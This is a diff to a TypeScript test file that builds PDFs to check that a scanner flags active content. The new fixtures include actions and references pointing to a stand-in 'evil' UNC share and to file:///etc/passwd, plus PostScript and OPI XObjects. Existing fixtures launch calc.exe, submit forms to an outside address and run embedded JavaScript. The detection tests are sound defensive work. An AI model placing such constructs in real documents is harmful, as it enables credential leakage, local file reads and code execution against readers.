@@ -16,6 +16,7 @@ const ACTIONS = {
   launch: { S: "Launch", F: PDFString.of("calc.exe") },
   submit: { S: "SubmitForm", F: PDFString.of("http://192.0.2.1/") },
   otherFile: { S: "GoToR", F: PDFString.of("\\\\evil\\share"), D: [0, "Fit"] },
+  thread: { S: "Thread", F: PDFString.of("\\\\evil\\share\\x.pdf"), D: 0 },
   fileInside: { S: "GoToE", T: { R: "C", N: PDFString.of("x.pdf") } },
   scriptAddress: { S: "URI", URI: PDFString.of("javascript:app.alert(1)") },
   chain: { S: "URI", URI: PDFString.of("https://example.org/"), Next: [{ S: "Launch", F: PDFString.of("calc.exe") }] },
@@ -45,20 +46,32 @@ const file = ({ context }: PDFDocument) => ({
   F: PDFString.of("tool.exe"),
   EF: { F: context.register(context.stream("MZ")) },
 });
+const drawn = (entries: Record<string, unknown>) =>
+  onPage("Resources", ({ context }) => ({ XObject: { X: context.register(context.stream("", entries as never)) } }));
+const elsewhere = { Type: "Filespec", FS: "URL", F: PDFString.of("file:///etc/passwd") };
+const untyped = { F: PDFString.of("\\\\evil\\x.tif") };
+const FORM = { Type: "XObject", Subtype: "Form", BBox: [0, 0, 9, 9] };
 const model = ({ context }: PDFDocument) => {
   const OnInstantiate = context.register(context.stream("app.alert(1)"));
   return { "3DD": context.register(context.stream("U3D", { Type: "3D", Subtype: "U3D", OnInstantiate })) };
 };
 
 const EDITS: readonly (readonly [string, Edit])[] = [
-  ...(["script", "launch", "otherFile", "fileInside", "chain"] as const).map(
+  ...(["script", "launch", "otherFile", "thread", "fileInside", "chain"] as const).map(
     (action) => ["active_content", atOpening(action)] as const,
   ),
-  ...(["script", "launch", "submit", "otherFile", "scriptAddress"] as const).map(
+  ...(["script", "launch", "submit", "otherFile", "thread", "scriptAddress"] as const).map(
     (action) => ["active_content", linked(action)] as const,
   ),
   ...(["3D", "Movie", "Sound", "RichMedia"] as const).map((subtype) => ["active_content", annotated(subtype)] as const),
   ["active_content", annotated("Link", model)],
+  ["active_content", drawn({ ...FORM, Ref: { F: elsewhere, Page: 0 } })],
+  ["active_content", drawn({ ...FORM, Ref: { F: untyped, Page: 0 } })],
+  ["active_content", drawn({ ...FORM, OPI: { "2.0": untyped } })],
+  ["active_content", drawn({ ...FORM, Subtype: "PS" })],
+  ["active_content", drawn({ ...FORM, Subtype2: "PS" })],
+  ["active_content", inCatalogue(() => ({ AF: [elsewhere] }))],
+  ["active_content", inCatalogue(() => ({ Names: { AlternatePresentations: {} } }))],
   ["active_content", (pdf) => pdf.addJavaScript("main", "app.alert(1)")],
   ["active_content", ofThePage("script")],
   ["active_content", inCatalogue(() => ({ AA: { WC: ACTIONS.submit } }))],
@@ -74,6 +87,13 @@ const HARMLESS: readonly (readonly [string, Edit])[] = [
   ["a link", annotated("Link", () => ({ A: { S: "URI", URI: PDFString.of("https://example.org/") } }))],
   ["a note", annotated("Text")],
   ["an empty page", onPage("Empty", ({ context }) => context.register(context.stream("", { Filter: "FlateDecode" })))],
+  ["articles", inCatalogue(({ context }) => ({ Threads: [{ Type: "Thread", F: context.register(context.obj({})) }] }))],
+  ["an element that refers to others", inCatalogue(() => ({ StructTreeRoot: { K: { S: "P", Ref: [{}] } } }))],
+  ["a turning page", onPage("Trans", () => ({ S: "Fade" }))],
+  [
+    "notes of its program",
+    onPage("PieceInfo", () => ({ Program: { LastModified: PDFString.of("D:2026"), Private: {} } })),
+  ],
   ["a view to begin with", inCatalogue(() => ({ OpenAction: { S: "GoTo", D: [0, "Fit"] } }))],
 ];
 
